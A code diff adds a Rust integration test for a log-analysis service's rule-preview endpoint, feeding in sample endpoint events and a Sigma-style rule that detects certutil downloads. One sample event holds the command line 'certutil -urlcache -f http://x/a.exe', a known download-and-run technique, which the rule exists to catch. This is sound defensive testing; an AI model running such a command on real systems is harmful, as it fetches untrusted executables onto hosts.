@@ -343,6 +343,96 @@ async fn a_text_body_reads_local_times_in_the_zone_named() {
     );
 }
 
+/// Rules not loaded yet run over the stored events as ingest would have matched them: what
+/// they find, newest first, counted in full; nothing recorded. Bad rules, a query with an
+/// aggregation and limits out of range are refused naming the field; a cap on the events read
+/// says the preview is incomplete.
+#[tokio::test]
+async fn rules_not_loaded_yet_are_previewed_over_the_stored_events() {
+    let app = spawn_app().await;
+    let body = "{\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":\"certutil -urlcache -f http://x/a.exe\"}\n\
+                {\"Image\":\"C:\\\\Windows\\\\notepad.exe\",\"CommandLine\":\"notepad\"}\n\
+                {\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":\"certutil -decode a b\"}\n";
+    let (status, report) = app
+        .send(
+            &app.responder_token,
+            "service=edr&host=ws1",
+            body,
+            "application/x-ndjson",
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK, "{report}");
+    assert_eq!(report["stored"], 3, "{report}");
+    assert_eq!(
+        report["detections"], 0,
+        "the loaded rules find nothing: {report}"
+    );
+    app.searchable().await;
+    let rule = "title: Certutil Download\nid: 6c3b1d2e-8f4a-4b5c-9d6e-7f8a9b0c1d2e\nlevel: high\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: urlcache\n  condition: selection\n";
+    let viewer = app.viewer_token();
+    let preview = |body: Value| {
+        let request = http()
+            .post(app.url("/rules/preview"))
+            .bearer_auth(&viewer)
+            .json(&body);
+        async move {
+            let resp = request.send().await.unwrap();
+            (resp.status(), resp.json::<Value>().await.unwrap())
+        }
+    };
+    let (status, found) = preview(json!({"rules": rule})).await;
+    assert_eq!(status, StatusCode::OK, "{found}");
+    assert_eq!(found["rules"], 1, "{found}");
+    assert_eq!(found["events_read"], 3, "{found}");
+    assert_eq!(found["complete"], true, "{found}");
+    assert_eq!(found["total_matches"], 1, "{found}");
+    let hit = &found["matches"][0];
+    assert_eq!(hit["rule_title"], "Certutil Download", "{found}");
+    assert_eq!(hit["level"], "high", "{found}");
+    assert_eq!(hit["event"]["service"], "edr", "{found}");
+    assert!(
+        hit["event"]["event"]["CommandLine"]
+            .as_str()
+            .unwrap()
+            .contains("urlcache"),
+        "{found}"
+    );
+    // A second rule in the same text, one refused; the query narrows the events read.
+    let two = format!(
+        "{rule}---\ntitle: Any Certutil\nid: 1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\certutil.exe'\n  condition: selection\n---\ntitle: Broken\ndetection:\n  condition: nothing\n"
+    );
+    let (status, found) = preview(json!({"rules": two, "q": "certutil", "limit": 1})).await;
+    assert_eq!(status, StatusCode::OK, "{found}");
+    assert_eq!(found["rules"], 2, "{found}");
+    assert_eq!(found["rejected"].as_array().unwrap().len(), 1, "{found}");
+    assert_eq!(found["events_read"], 2, "{found}");
+    assert_eq!(found["total_matches"], 3, "{found}");
+    assert_eq!(found["matches"].as_array().unwrap().len(), 1, "{found}");
+    let (_, capped) = preview(json!({"rules": rule, "max_events": 1})).await;
+    assert_eq!(
+        (&capped["events_read"], &capped["complete"]),
+        (&json!(1), &json!(false)),
+        "{capped}"
+    );
+    for (body, field) in [
+        (json!({"rules": "title: x\n"}), "rules"),
+        (json!({"rules": rule, "q": "* | count by host"}), "q"),
+        (json!({"rules": rule, "limit": 0}), "limit"),
+        (json!({"rules": rule, "max_events": 0}), "max_events"),
+        (json!({"rules": rule, "from": "yesterday"}), "from"),
+    ] {
+        let (status, refused) = preview(body).await;
+        assert_eq!(status, StatusCode::BAD_REQUEST, "{refused}");
+        assert_eq!(refused["error"]["field"], field, "{refused}");
+    }
+    let (_, detections) = app.get(&viewer, "/detections").await;
+    assert_eq!(
+        detections["items"].as_array().map(Vec::len),
+        Some(0),
+        "a preview records nothing: {detections}"
+    );
+}
+
 fn gzip(data: &[u8]) -> Vec<u8> {
     use std::io::Write;
     let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
